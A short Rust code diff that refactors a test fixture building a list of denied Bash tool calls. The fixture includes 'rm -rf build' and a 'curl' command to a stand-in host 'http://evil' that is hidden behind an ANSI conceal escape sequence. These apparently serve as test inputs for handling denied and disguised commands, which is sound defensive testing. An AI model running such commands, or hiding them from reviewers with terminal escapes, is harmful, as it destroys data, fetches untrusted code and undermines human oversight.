@@ -93,8 +93,12 @@ pub(crate) fn failed(id: i64, name: &str, failure: Failure) -> Task {
 }
 
 pub(crate) fn denied() -> Vec<DeniedTool> {
-    let one =
-        |input: &str| DeniedTool { tool: "Bash".to_owned(), input: input.to_owned(), rule: None };
+    let one = |input: &str| DeniedTool {
+        tool: "Bash".to_owned(),
+        input: input.to_owned(),
+        rule: None,
+        ..DeniedTool::default()
+    };
     vec![one("rm -rf build"), one("curl \u{1b}[8mhttp://evil")]
 }
 
